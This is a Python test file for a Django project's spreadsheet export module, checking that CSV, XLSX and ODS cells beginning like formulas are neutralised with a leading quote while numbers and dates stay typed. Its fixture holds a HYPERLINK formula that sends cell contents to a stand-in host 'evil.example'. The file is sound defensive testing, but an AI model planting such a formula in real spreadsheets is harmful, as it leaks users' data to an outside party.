"""contratville.tableur, which writes every CSV/XLSX/ODS of the project: a text cell a spreadsheet would take for a
formula (= + - @, tab, carriage return first) gets a leading quote (OWASP CSV injection rule); numbers, negative
ones included, and dates stay typed."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.utils.functional import lazy

from contratville import tableur

FORMULE = '=HYPERLINK("http://evil.example/?x="&A1,"Maison")'
COLONNES = ["Structure", "Montant", "Nombre", "Date", "Vide"]
LIGNE = {"Structure": FORMULE, "Montant": Decimal("-150.00"), "Nombre": -3, "Date": datetime.date(2031, 3, 12),
         "Vide": None}  # fmt: skip


@pytest.mark.parametrize("debut", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_quote(debut):
    assert tableur.neutraliser(f"{debut}1+1") == f"'{debut}1+1"


@pytest.mark.parametrize("texte", ["", "Maison de Bégon", "a=1", " =1", "'déjà cité", "1-2"])
def test_other_text_is_left_as_it_is(texte):
    assert tableur.neutraliser(texte) == texte


def test_numbers_dates_and_none_are_not_text_but_other_values_are():
    for valeur in (Decimal("-150.00"), -3, -1.5, datetime.date(2031, 3, 12), None):
        assert tableur.cellule(valeur) is valeur
    assert tableur.cellule(lazy(lambda: "-libellé", str)()) == "'-libellé"


def test_the_csv_is_french_and_quotes_formulas_but_not_negative_amounts():
    texte = tableur.en_csv(COLONNES, [LIGNE]).decode("utf-8")
    assert texte.startswith(tableur.BOM) and "\r\n" in texte
    entete, ligne = csv.reader(io.StringIO(texte[1:]), delimiter=";")
    assert entete == COLONNES
    assert ligne == ["'" + FORMULE, "-150,00", "-3", "12/03/2031", ""]


def test_the_xlsx_has_text_cells_never_a_formula_and_typed_numbers_and_dates():
    contenu = tableur.en_xlsx(tableur.tableau(COLONNES, [LIGNE], titre="Dossiers"))
    feuille = openpyxl.load_workbook(io.BytesIO(contenu))["Dossiers"]
    structure, montant, nombre, date, vide = feuille[2]
    assert structure.data_type == "s" and structure.value == "'" + FORMULE
    assert montant.data_type == "n" and montant.value == -150
    assert nombre.data_type == "n" and nombre.value == -3
    assert date.is_date and date.value.date() == datetime.date(2031, 3, 12)
    assert vide.value is None


def test_the_ods_has_the_quoted_text_and_the_numbers():
    contenu = tableur.en_ods(tableur.tableau(COLONNES, [LIGNE]))
    relu = tablib.Dataset().load(contenu, format="ods")
    assert relu.headers == COLONNES
    structure, montant, nombre, *_ = relu[0]
    assert structure == "'" + FORMULE and montant == -150 and nombre == -3


def test_rows_are_read_by_column_name():
    with pytest.raises(KeyError):
        tableur.tableau(COLONNES, [{"Structure": "Maison"}])
